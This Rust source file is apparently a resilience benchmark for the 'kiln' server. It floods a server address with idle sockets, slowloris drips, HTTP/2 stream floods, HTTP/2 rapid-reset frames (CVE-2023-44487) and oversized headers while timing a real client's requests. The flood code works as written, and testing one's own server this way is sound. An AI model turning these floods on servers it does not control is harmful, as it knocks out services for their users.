//! Hostile clients against a running `kiln serve`, while one real client measures its latency.
//!
//! Each scenario runs for `--seconds`; the attackers reconnect whenever the server closes them, so
//! the pressure lasts the whole run (and a server that evicts idle connections is made to churn).
//!
//! | scenario      | attackers                                                                        |
//! | ------------- | -------------------------------------------------------------------------------- |
//! | `baseline`    | none: the real client alone                                                      |
//! | `idle`        | `--sockets` TCP connections that never send a byte                               |
//! | `slowloris`   | `--sockets` connections sending a request head one byte every `--drip-ms`        |
//! | `h2-streams`  | `--h2` h2c connections sending GET HEADERS as fast as they can, past the stream cap |
//! | `h2-reset`    | `--h2` h2c connections sending HEADERS + RST_STREAM pairs (CVE-2023-44487)        |
//! | `big-headers` | `--h2` loops of HTTP/1.1 requests with 128 KiB of headers, each on a new connection |
//! | `all`         | every attack above at once                                                       |
//!
//! The real client sends `GET /healthz` on a fresh connection, one request after the other, each
//! with a 10 s timeout, from its own thread; it reports p50/p99/max and the requests that failed.
//!
//! Usage: `attack ADDR [--seconds 10] [--sockets 400] [--drip-ms 2000] [--h2 8] [SCENARIO...]`
//! (`benches/attack.sh` starts a server and runs every scenario.)

use std::io::{Read, Write};
use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use clap::Parser;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

const SCENARIOS: [&str; 7] = [
    "baseline",
    "idle",
    "slowloris",
    "h2-streams",
    "h2-reset",
    "big-headers",
    "all",
];
const CLIENT_TIMEOUT: Duration = Duration::from_secs(10);

#[derive(Parser)]
#[command(about = "Hostile clients against a running kiln serve, with a real client's latency")]
struct Args {
    /// The server, e.g. 127.0.0.1:7878.
    addr: SocketAddr,
    /// Scenarios to run, in order [default: all of them, then `all`].
    scenarios: Vec<String>,
    /// How long each scenario runs.
    #[arg(long, default_value_t = 10)]
    seconds: u64,
    /// Idle sockets, and as many slowloris sockets, held open at once.
    #[arg(long, default_value_t = 400)]
    sockets: usize,
    /// Slowloris: milliseconds between two bytes of a request head.
    #[arg(long, default_value_t = 2000)]
    drip_ms: u64,
    /// h2 flooding connections, and oversized-header loops.
    #[arg(long, default_value_t = 8)]
    h2: usize,
}

/// What the attackers saw.
#[derive(Default)]
struct Seen {
    connections: AtomicU64,
    closed_by_server: AtomicU64,
    goaways: AtomicU64,
    streams: AtomicU64,
    rejected_431: AtomicU64,
}

fn main() {
    let args = Args::parse();
    let scenarios: Vec<String> = if args.scenarios.is_empty() {
        SCENARIOS.iter().map(|s| s.to_string()).collect()
    } else {
        args.scenarios.clone()
    };
    if let Some(unknown) = scenarios.iter().find(|s| !SCENARIOS.contains(&s.as_str())) {
        eprintln!("attack: unknown scenario {unknown}; known: {}", SCENARIOS.join(", "));
        std::process::exit(2);
    }
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .expect("tokio runtime");
    println!(
        "| scenario | attack | real client: requests | failed | p50 ms | p99 ms | max ms | attackers: connections | closed by server | GOAWAY | streams sent | 431 |"
    );
    println!("| --- | --- | --- | --- | --- | --- | --- | --- | --- | --- | --- | --- |");
    for scenario in &scenarios {
        let seen = Arc::new(Seen::default());
        let mut attackers = JoinSet::new();
        let attack = runtime.block_on(async { start(scenario, &args, &seen, &mut attackers).await });
        let client = real_client(args.addr, Duration::from_secs(args.seconds));
        runtime.block_on(async {
            attackers.abort_all();
            while attackers.join_next().await.is_some() {}
        });
        let ms = |d: Duration| format!("{:.2}", d.as_secs_f64() * 1000.0);
        let get = |c: &AtomicU64| c.load(Ordering::Relaxed);
        println!(
            "| {scenario} | {attack} | {} | {} | {} | {} | {} | {} | {} | {} | {} | {} |",
            client.latencies.len() + client.failed,
            client.failed,
            ms(client.quantile(0.50)),
            ms(client.quantile(0.99)),
            ms(client.quantile(1.0)),
            get(&seen.connections),
            get(&seen.closed_by_server),
            get(&seen.goaways),
            get(&seen.streams),
            get(&seen.rejected_431),
        );
        if let Some(error) = client.first_error {
            eprintln!("attack: {scenario}: first failure of the real client: {error}");
        }
        // The server notices the dropped attackers' EOFs; give it a moment before the next run.
        std::thread::sleep(Duration::from_millis(500));
    }
}

/// Starts the attackers of `scenario`; a description of them.
async fn start(scenario: &str, args: &Args, seen: &Arc<Seen>, set: &mut JoinSet<()>) -> String {
    let addr = args.addr;
    let drip = Duration::from_millis(args.drip_ms);
    let all = scenario == "all";
    let mut what = Vec::new();
    if scenario == "idle" || all {
        for _ in 0..args.sockets {
            set.spawn(idle(addr, seen.clone()));
        }
        what.push(format!("{} idle sockets", args.sockets));
    }
    if scenario == "slowloris" || all {
        for _ in 0..args.sockets {
            set.spawn(slowloris(addr, drip, seen.clone()));
        }
        what.push(format!(
            "{} slowloris sockets (a byte every {} ms)",
            args.sockets, args.drip_ms
        ));
    }
    if scenario == "h2-streams" || all {
        for _ in 0..args.h2 {
            set.spawn(h2_flood(addr, false, seen.clone()));
        }
        what.push(format!("{} h2 stream floods", args.h2));
    }
    if scenario == "h2-reset" || all {
        for _ in 0..args.h2 {
            set.spawn(h2_flood(addr, true, seen.clone()));
        }
        what.push(format!("{} h2 rapid-reset floods", args.h2));
    }
    if scenario == "big-headers" || all {
        for _ in 0..args.h2 {
            set.spawn(big_headers(addr, seen.clone()));
        }
        what.push(format!("{} loops of 128 KiB headers", args.h2));
    }
    // Let the attackers take the server's slots before the real client starts.
    tokio::time::sleep(Duration::from_millis(if scenario == "baseline" { 0 } else { 300 })).await;
    if what.is_empty() {
        "none".into()
    } else {
        what.join(" + ")
    }
}

async fn connect(addr: SocketAddr, seen: &Seen) -> TcpStream {
    loop {
        match TcpStream::connect(addr).await {
            Ok(stream) => {
                seen.connections.fetch_add(1, Ordering::Relaxed);
                return stream;
            }
            // Out of ports or files on this side, or a full backlog: try again shortly.
            Err(_) => tokio::time::sleep(Duration::from_millis(10)).await,
        }
    }
}

/// Resolves when the server has closed `stream`, discarding what it sends.
async fn closed(stream: &mut TcpStream) {
    let mut buf = [0u8; 4096];
    while let Ok(n) = stream.read(&mut buf).await {
        if n == 0 {
            break;
        }
    }
}

async fn idle(addr: SocketAddr, seen: Arc<Seen>) {
    loop {
        let mut stream = connect(addr, &seen).await;
        closed(&mut stream).await;
        seen.closed_by_server.fetch_add(1, Ordering::Relaxed);
    }
}

async fn slowloris(addr: SocketAddr, drip: Duration, seen: Arc<Seen>) {
    loop {
        let stream = connect(addr, &seen).await;
        let (mut read, mut write) = stream.into_split();
        let dripping = async {
            if write
                .write_all(b"GET /healthz HTTP/1.1\r\nHost: kiln\r\nX-Slow: ")
                .await
                .is_err()
            {
                return;
            }
            loop {
                tokio::time::sleep(drip).await;
                if write.write_all(b"x").await.is_err() {
                    return;
                }
            }
        };
        let mut buf = [0u8; 1024];
        tokio::select! {
            () = dripping => {}
            _ = read.read(&mut buf) => {}
        }
        seen.closed_by_server.fetch_add(1, Ordering::Relaxed);
    }
}

async fn big_headers(addr: SocketAddr, seen: Arc<Seen>) {
    let request = format!(
        "GET /healthz HTTP/1.1\r\nHost: kiln\r\nX-Big: {}\r\nConnection: close\r\n\r\n",
        "a".repeat(128 * 1024)
    );
    loop {
        let mut stream = connect(addr, &seen).await;
        // The server may answer and close before all of it is written.
        let _ = stream.write_all(request.as_bytes()).await;
        let mut answer = Vec::new();
        let _ = stream.read_to_end(&mut answer).await;
        if answer.starts_with(b"HTTP/1.1 431") {
            seen.rejected_431.fetch_add(1, Ordering::Relaxed);
        }
        seen.closed_by_server.fetch_add(1, Ordering::Relaxed);
    }
}

/// Opens streams (GET /healthz) as fast as the socket takes them, each cancelled at once when
/// `reset`; reads everything the server sends, granting connection-level flow-control credit so
/// that answers keep coming; reconnects when the server closes.
async fn h2_flood(addr: SocketAddr, reset: bool, seen: Arc<Seen>) {
    loop {
        let stream = connect(addr, &seen).await;
        let (mut read, mut write) = stream.into_split();
        let credit = Arc::new(AtomicU64::new(0));
        let done = Arc::new(AtomicBool::new(false));
        let reader = {
            let (credit, done, seen) = (credit.clone(), done.clone(), seen.clone());
            async move {
                let mut head = [0u8; 9];
                loop {
                    if read.read_exact(&mut head).await.is_err() {
                        break;
                    }
                    let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
                    let mut payload = vec![0u8; len];
                    if read.read_exact(&mut payload).await.is_err() {
                        break;
                    }
                    match head[3] {
                        h2::DATA => {
                            credit.fetch_add(len as u64, Ordering::Relaxed);
                        }
                        h2::GOAWAY => {
                            seen.goaways.fetch_add(1, Ordering::Relaxed);
                        }
                        _ => {}
                    }
                }
                done.store(true, Ordering::Relaxed);
            }
        };
        let writer = async {
            if write.write_all(&h2::hello()).await.is_err() {
                return;
            }
            let mut next_id = 1u32;
            while !done.load(Ordering::Relaxed) && next_id < (1 << 30) {
                let mut batch = Vec::with_capacity(64 * 64);
                for _ in 0..64 {
                    batch.extend(h2::get(next_id, "/healthz"));
                    if reset {
                        batch.extend(h2::cancel(next_id));
                    }
                    next_id += 2;
                }
                let owed = credit.swap(0, Ordering::Relaxed);
                if owed > 0 {
                    batch.extend(h2::window_update(owed as u32));
                }
                if write.write_all(&batch).await.is_err() {
                    return;
                }
                seen.streams.fetch_add(64, Ordering::Relaxed);
            }
        };
        tokio::join!(reader, writer);
        seen.closed_by_server.fetch_add(1, Ordering::Relaxed);
    }
}

/// Just enough HTTP/2 framing for a hostile h2c client (RFC 9113 §4, HPACK static table only).
mod h2 {
    pub const DATA: u8 = 0;
    pub const GOAWAY: u8 = 7;

    pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
        let mut out = (payload.len() as u32).to_be_bytes()[1..].to_vec();
        out.extend([kind, flags]);
        out.extend(stream.to_be_bytes());
        out.extend_from_slice(payload);
        out
    }

    /// The preface and an empty SETTINGS frame.
    pub fn hello() -> Vec<u8> {
        [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), frame(4, 0, 0, &[])].concat()
    }

    /// HEADERS (END_STREAM | END_HEADERS): `GET path`, `:authority kiln`.
    pub fn get(stream: u32, path: &str) -> Vec<u8> {
        let mut block = vec![0x82, 0x86, 0x04, path.len() as u8];
        block.extend_from_slice(path.as_bytes());
        block.extend([0x01, 4]);
        block.extend_from_slice(b"kiln");
        frame(1, 0x1 | 0x4, stream, &block)
    }

    /// RST_STREAM (CANCEL).
    pub fn cancel(stream: u32) -> Vec<u8> {
        frame(3, 0, stream, &8u32.to_be_bytes())
    }

    /// Connection-level WINDOW_UPDATE.
    pub fn window_update(increment: u32) -> Vec<u8> {
        frame(8, 0, 0, &increment.to_be_bytes())
    }
}

struct ClientRun {
    latencies: Vec<Duration>,
    failed: usize,
    first_error: Option<String>,
}

impl ClientRun {
    fn quantile(&self, q: f64) -> Duration {
        if self.latencies.is_empty() {
            return Duration::ZERO;
        }
        let index = ((self.latencies.len() - 1) as f64 * q).round() as usize;
        self.latencies[index]
    }
}

/// One request after the other, each on a new connection, for `duration`; latencies sorted.
fn real_client(addr: SocketAddr, duration: Duration) -> ClientRun {
    let handle = std::thread::spawn(move || {
        let end = Instant::now() + duration;
        let mut run = ClientRun {
            latencies: Vec::new(),
            failed: 0,
            first_error: None,
        };
        while Instant::now() < end {
            let started = Instant::now();
            match healthz(addr) {
                Ok(()) => run.latencies.push(started.elapsed()),
                Err(e) => {
                    run.failed += 1;
                    run.first_error
                        .get_or_insert(format!("{e} after {:?}", started.elapsed()));
                }
            }
        }
        run.latencies.sort();
        run
    });
    handle.join().expect("the real client panicked")
}

fn healthz(addr: SocketAddr) -> Result<(), String> {
    let mut stream =
        std::net::TcpStream::connect_timeout(&addr, CLIENT_TIMEOUT).map_err(|e| format!("connect: {e}"))?;
    stream
        .set_read_timeout(Some(CLIENT_TIMEOUT))
        .map_err(|e| e.to_string())?;
    stream
        .set_write_timeout(Some(CLIENT_TIMEOUT))
        .map_err(|e| e.to_string())?;
    stream
        .write_all(b"GET /healthz HTTP/1.1\r\nHost: kiln\r\nConnection: close\r\n\r\n")
        .map_err(|e| format!("write: {e}"))?;
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).map_err(|e| format!("read: {e}"))?;
    if answer.starts_with(b"HTTP/1.1 200") {
        Ok(())
    } else {
        Err(format!(
            "answer: {:?}",
            String::from_utf8_lossy(&answer[..answer.len().min(64)])
        ))
    }
}
